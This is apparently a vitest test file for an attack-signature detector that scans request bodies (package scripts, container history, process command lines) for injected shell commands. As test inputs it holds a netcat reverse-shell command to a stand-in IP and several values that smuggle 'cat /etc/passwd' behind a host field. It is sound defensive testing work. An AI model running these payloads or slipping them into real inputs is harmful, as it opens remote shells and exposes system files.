import { expect, test } from 'vitest';
import { findSignatures } from '../../../src/attacks/find-signatures.ts';

const SHELL = 'nc -e /bin/sh 203.0.113.9 4444';

function found(document: object): readonly string[] {
  const request = { method: 'PUT', path: '/@acme%2fapi', query: '', headers: {}, contentType: 'application/json' };
  return findSignatures({ ...request, body: JSON.stringify(document) }).matches.map(({ location }) => location);
}

function published(script: string): object {
  return { name: 'api', versions: { '1.2.0': { scripts: { build: 'tsc', 'test:all': script } } }, readme: 'An API' };
}

test('scripts of a package that is published are commands', () => {
  expect(found(published('./test/python.sh && ./test/ruby.sh'))).toEqual([]);
  expect(found(published('PLATFORM=linux/$(uname -m) docker compose up -d'))).toEqual([]);
  expect(found(published('prettier . || echo "Not formatted. Going on"'))).toEqual([]);
});

test('what an intruder runs behind a value counts there, and so does every command in other fields', () => {
  expect(found(published(`;${SHELL}`))).toEqual(['body.versions.1.2.0.scripts.test:all']);
  expect(found({ ...published('tsc'), host: '127.0.0.1;cat /tmp/a' })).toEqual(['body.host']);
});

test('a command in another field of the same name is judged as ever', () => {
  const many = Object.fromEntries(Array.from({ length: 60 }, (_, i) => [`name${i}`, `value ${i}`]));
  const script = 'x;./test/ruby.sh';
  const versions = { '1.2.0': { scripts: { test: script } } };
  expect(found({ versions, ...many, host: { test: script } })).toEqual(['body.host.test']);
});

test('images of containers name the commands that they were built with', () => {
  const history = [{ created_by: '/bin/sh -c #(nop) ENV a=b' }, { created_by: '/bin/sh -c dd if=/dev/zero of=/file' }];
  expect(found({ architecture: 'amd64', os: 'linux', history })).toEqual([]);
  expect(
    found({ os: 'linux', a: 'b', c: 'd', container_config: { Cmd: ['/bin/sh', '-c', '#(nop) CMD ["sh"]'] } }),
  ).toEqual([]);
  expect(found({ history: [{ created_by: '127.0.0.1;cat /etc/passwd' }] })).toEqual(['body.history[0].created_by']);
});

test('agents that watch a machine tell the command lines of its processes', () => {
  const told = { host: 'web-1', action: 'added', name: 'processes', os: 'linux', user: 'ann' };
  expect(found({ ...told, columns: { cmdline: '/bin/bash -c "sleep 60; df -h"' } })).toEqual([]);
  expect(found({ ...told, process: { command_line: "sh -c 'cd /srv && node app.js'" } })).toEqual([]);
  expect(found({ ...told, columns: { cmdline: '127.0.0.1;cat /etc/passwd' } })).toEqual(['body.columns.cmdline']);
  expect(found({ ...told, columns: { host: `127.0.0.1;${SHELL}` } })).toEqual(['body.columns.host']);
});

test('engines of containers tell what they started; what one is to start counts', () => {
  const options = ['-config=/tmp/proxy.json', '-e id'];
  const told = { Id: 'a', Path: '/bin/proxy', Args: options, Config: { Cmd: options, Entrypoint: options } };
  expect(found(told)).toEqual([]);
  expect(found({ ...told, Args: ['127.0.0.1;cat /etc/passwd'] })).toEqual(['body.Args[0]']);
  expect(found({ Image: 'alpine', Cmd: options })).not.toEqual([]);
  expect(found({ ...told, Name: '-e id' })).toEqual(['body.Name']);
});
